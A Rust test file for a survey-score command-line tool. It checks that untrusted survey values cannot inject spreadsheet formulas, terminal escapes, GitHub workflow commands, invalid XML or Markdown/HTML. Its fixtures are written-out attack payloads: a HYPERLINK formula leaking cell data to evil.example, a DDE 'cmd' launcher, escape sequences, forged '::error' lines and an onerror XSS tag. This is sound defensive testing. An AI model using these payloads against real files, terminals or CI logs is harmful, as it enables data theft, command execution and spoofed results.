//! Output safety (DESIGN.md §5; findings F13–F17): survey answers and column names are
//! untrusted text, and every format must stay safe to open wherever it lands.

use super::*;

#[test]
fn csv_output_neutralises_spreadsheet_formulas() {
    // F13: the adversarial report's inj.csv, plus a column name that is a formula.
    let values = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
        "\tTAB",
        "\rCR",
        "normal",
    ];
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["id", "score", "=1+1"]).unwrap();
    for i in 0..21 {
        // Scores 0–6 only, so that every segment's NPS is negative (-100.0).
        w.write_record([
            i.to_string(),
            (i % 7).to_string(),
            values[i % 7].to_string(),
        ])
        .unwrap();
    }
    let (_dir, f) = crafted("inj.csv", &w.into_inner().unwrap());
    let run = nps(&[
        "segment", &f, "--by", "=1+1", "--min-n", "1", "-q", "-f", "csv",
    ]);
    run.expect(0);
    let records = csv_records(&run.stdout);
    assert_eq!(records[0][1], "'=1+1", "a column name is text: {run:?}");
    let nps_col = records[0].iter().position(|h| h == "nps").unwrap();
    let mut labels: Vec<&str> = records[1..]
        .iter()
        .filter(|r| r[0] == "segment")
        .map(|r| r[1].as_str())
        .collect();
    labels.sort_unstable();
    assert_eq!(
        labels,
        [
            "'+cmd|' /C calc'!A0",
            "'-2+3",
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
            "'@SUM(1+1)",
            // Ingest trims the whitespace around a value, so a leading TAB or CR never
            // arrives (the renderer's own test covers them).
            "CR",
            "TAB",
            "normal",
        ],
        "{run:?}"
    );
    // Numbers stay numbers: a negative NPS is not a formula.
    for r in &records[1..] {
        assert_eq!(r[nps_col], "-100.0", "{run:?}");
    }
    // Column names in inspect's CSV too.
    let inspect = nps(&["inspect", &f, "-q", "-f", "csv"]);
    inspect.expect(0);
    let columns: Vec<String> = csv_records(&inspect.stdout)[1..]
        .iter()
        .map(|r| r[2].clone())
        .collect();
    assert_eq!(columns, ["id", "score", "'=1+1"], "{inspect:?}");
    // JSON is the exact contract: values unchanged.
    let j = nps(&[
        "segment", &f, "--by", "=1+1", "--min-n", "1", "-q", "-f", "json",
    ]);
    assert!(j.expect(0).stdout.contains("\"@SUM(1+1)\""), "{j:?}");
}

#[test]
fn tables_and_stderr_never_carry_raw_control_characters() {
    // F14 (and F50): the adversarial report's esc.csv and hdr.csv.
    let (_d1, esc) = crafted(
        "esc.csv",
        b"id,score,plan\n1,9,\"evil\x1b]0;pwned\x07\x1b[31mRED\x1b[0m\"\n2,3,\"cr\rreturn\"\n3,5,ok\n4,7,\"del\x7f\xc2\x9bc1\"\n",
    );
    let run = nps(&["segment", &esc, "--by", "plan", "--min-n", "1", "-q"]);
    run.expect(0);
    assert_eq!(raw_controls(&run.stdout), [] as [char; 0], "{run:?}");
    assert!(
        run.stdout
            .contains("evil\\u{1b}]0;pwned\\u{7}\\u{1b}[31mRED"),
        "shown escaped, not dropped: {run:?}"
    );
    assert!(run.stdout.contains("cr\\rreturn"), "{run:?}");
    for format in ["markdown", "csv"] {
        let run = nps(&[
            "segment", &esc, "--by", "plan", "--min-n", "1", "-q", "-f", format,
        ]);
        let controls: Vec<char> = raw_controls(&run.expect(0).stdout)
            .into_iter()
            .filter(|&c| c != '\r')
            .collect();
        assert_eq!(controls, [] as [char; 0], "{run:?}");
    }
    let (_d2, hdr) = crafted(
        "hdr.csv",
        b"id,\"score\x1b]0;TITLE\x07\x1b[2J\"\n1,9\n2,3\n3,10\n",
    );
    for command in ["score", "inspect"] {
        let run = nps(&[command, &hdr]);
        run.expect(0);
        assert_eq!(raw_controls(&run.stdout), [] as [char; 0], "{run:?}");
        assert_eq!(raw_controls(&run.stderr), [] as [char; 0], "{run:?}");
    }
    // The gate's verdict on stderr quotes a segment name.
    let (_d3, vt) = crafted(
        "vt.csv",
        b"id,score,plan\n1,9,ok\n2,3,\"line\x0bbreak\x1b[2J\"\n",
    );
    let run = nps(&[
        "check", &vt, "--by", "plan", "--min-n", "1", "--min", "0", "-q",
    ]);
    run.expect(1);
    assert!(run.stderr.contains("line\\u{b}break"), "{run:?}");
    assert_eq!(raw_controls(&run.stderr), [] as [char; 0], "{run:?}");
    assert_eq!(raw_controls(&run.stdout), [] as [char; 0], "{run:?}");
    // An error quoting a cell value.
    let (_d4, bad) = crafted("bad.csv", b"id,score\n1,9\n2,\"7\x1b[2J\"\n");
    let run = nps(&["score", &bad, "--strict"]);
    run.expect(3);
    assert_eq!(raw_controls(&run.stderr), [] as [char; 0], "{run:?}");
}

#[test]
fn user_text_cannot_issue_github_workflow_commands() {
    // F15: the adversarial report's gh.csv, plus a value that starts a table line with `::`.
    let (_dir, gh) = crafted(
        "gh.csv",
        b"id,score,plan\n1,9,\"x\n::error title=Deploy::fake failure\"\n2,3,\"y\r\n::add-mask::9\"\n3,7,\"##[error]legacy\"\n4,8,\"::warning::first\"\n5,6,\"  ::notice::spaced\"\n",
    );
    for format in ["table", "markdown", "csv"] {
        let run = nps(&[
            "segment", &gh, "--by", "plan", "--min-n", "1", "-q", "-f", format,
        ]);
        run.expect(0);
        assert_eq!(
            workflow_command_lines(&run.stdout),
            [] as [&str; 0],
            "{run:?}"
        );
    }
    let run = nps(&["inspect", &gh, "-f", "csv"]);
    assert_eq!(
        workflow_command_lines(&run.stdout),
        [] as [&str; 0],
        "{run:?}"
    );
    // check: the table, the CSV (scope is its first column) and stderr.
    for format in ["table", "csv"] {
        let run = nps(&[
            "check", &gh, "--by", "plan", "--min-n", "1", "--min", "0", "-f", format,
        ]);
        run.expect(1);
        assert_eq!(
            workflow_command_lines(&run.stdout),
            [] as [&str; 0],
            "{run:?}"
        );
        assert_eq!(
            workflow_command_lines(&run.stderr),
            [] as [&str; 0],
            "{run:?}"
        );
    }
    // --format github: one annotation per rule, user text escaped inside it.
    let run = nps(&[
        "check", &gh, "--by", "plan", "--min-n", "1", "--min", "0", "-q", "-f", "github",
    ]);
    run.expect(1);
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert_eq!(lines.len(), 6, "overall + five segments: {run:?}");
    for line in &lines {
        assert!(
            line.starts_with("::error title=nps check%3A ")
                || line.starts_with("::notice title=nps check%3A "),
            "{run:?}"
        );
        assert!(!line.contains('\r'), "{run:?}");
    }
    assert!(
        run.stdout.contains(
            "title=nps check%3A plan = x%0A%3A%3Aerror title=Deploy%3A%3Afake failure nps"
        ),
        "{run:?}"
    );
}

#[test]
fn junit_stays_valid_xml_with_control_characters() {
    // F16: a vertical tab (Excel's line break in a cell), U+0001, backspace, ESC and U+FFFE.
    let (dir, f) = crafted(
        "vt.csv",
        "id,score,plan\n1,9,ok\n2,3,\"line\x0bbreak\x01\x08\x1b[2J\u{fffe}\"\n".as_bytes(),
    );
    let out = dir.path().join("vt.xml");
    let run = nps(&[
        "check",
        &f,
        "--by",
        "plan",
        "--min-n",
        "1",
        "--min",
        "0",
        "-q",
        "-f",
        "junit",
        "-o",
        out.to_str().unwrap(),
    ]);
    run.expect(1);
    let xml = std::fs::read_to_string(&out).unwrap();
    let bad: Vec<char> = xml.chars().filter(|&c| !xml_char(c)).collect();
    assert_eq!(bad, [] as [char; 0], "{xml}");
    let mut reader = quick_xml::Reader::from_str(&xml);
    let mut classnames = Vec::new();
    loop {
        match reader.read_event().expect("well-formed XML") {
            quick_xml::events::Event::Start(e) | quick_xml::events::Event::Empty(e) => {
                for a in e.attributes() {
                    let a = a.expect("well-formed attribute");
                    let value = a.unescape_value().expect("valid references").to_string();
                    // A character reference such as `&#11;` is as invalid as the raw byte.
                    assert!(value.chars().all(xml_char), "{value:?} in {xml}");
                    if a.key.as_ref() == b"classname" {
                        classnames.push(value);
                    }
                }
            }
            quick_xml::events::Event::Text(t) => {
                let text = t.decode().expect("valid text").to_string();
                assert!(text.chars().all(xml_char), "{text:?} in {xml}");
            }
            quick_xml::events::Event::Eof => break,
            _ => {}
        }
    }
    assert!(
        classnames
            .contains(&"nps.plan = line\\u{b}break\\u{1}\\u{8}\\u{1b}[2J\\u{fffe}".to_string()),
        "{classnames:?}"
    );
}

#[test]
fn markdown_cells_cannot_break_rows_or_inject_markup() {
    // F17: the adversarial report's inj2.csv.
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(["id", "score", "plan"]).unwrap();
    let values = [
        "cr\rreturn",
        "![t](http://evil.example/p.png)",
        "<img src=x onerror=alert(1)>",
        "@org/security-team",
        "a|b\\|c",
        "lf\nfeed",
    ];
    for (i, v) in values.iter().enumerate() {
        w.write_record([
            i.to_string(),
            [9, 3, 5, 7, 8, 10][i].to_string(),
            v.to_string(),
        ])
        .unwrap();
    }
    let (_dir, f) = crafted("inj2.csv", &w.into_inner().unwrap());
    let run = nps(&[
        "segment", &f, "--by", "plan", "--min-n", "1", "-q", "-f", "md",
    ]);
    run.expect(0);
    let md = &run.stdout;
    assert!(!md.contains('\r'), "{run:?}");
    // Every row of the segment table has as many unescaped pipes as its header.
    let table: Vec<&str> = md
        .lines()
        .skip_while(|l| !l.starts_with("| plan |"))
        .take_while(|l| l.starts_with('|'))
        .collect();
    let pipes = |l: &str| {
        let mut n = 0;
        let mut escaped = false;
        for c in l.chars() {
            if c == '|' && !escaped {
                n += 1;
            }
            escaped = c == '\\' && !escaped;
        }
        n
    };
    assert_eq!(table.len(), 2 + values.len(), "{run:?}");
    for line in &table {
        assert_eq!(pipes(line), pipes(table[0]), "{line:?} in {run:?}");
    }
    // No raw HTML, image or link: each such character comes escaped.
    for c in ['<', '>', '!', '[', ']'] {
        let bare = md.replace(&format!("\\{c}"), "");
        assert!(!bare.contains(c), "unescaped {c:?}: {run:?}");
    }
    assert!(!md.contains("@org"), "no mention: {run:?}");
    assert!(
        md.contains("| a\\|b\\\\\\|c |"),
        "backslashes kept: {run:?}"
    );
}

#[test]
fn json_keeps_values_exact_yet_safe_on_a_terminal_and_in_ci_logs() {
    // serde_json escapes C0 controls but not DEL or C1 (U+009B is a CSI to some terminals), and
    // a legacy `##[error]` anywhere in a line is a workflow command to the GitHub runner.
    let value = "del\x7f c1\u{9b}31m ##[error]legacy esc\x1b";
    let (_dir, f) = crafted(
        "j.csv",
        format!("id,score,plan\n1,9,\"{value}\"\n2,3,ok\n").as_bytes(),
    );
    let run = nps(&[
        "segment", &f, "--by", "plan", "--min-n", "1", "-q", "-f", "json",
    ]);
    run.expect(0);
    assert_eq!(raw_controls(&run.stdout), [] as [char; 0], "{run:?}");
    assert_eq!(
        workflow_command_lines(&run.stdout),
        [] as [&str; 0],
        "{run:?}"
    );
    let j = run.json();
    let plans: Vec<&str> = j["segments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["values"]["plan"].as_str().unwrap())
        .collect();
    assert!(plans.contains(&value), "the exact value: {plans:?}");
}
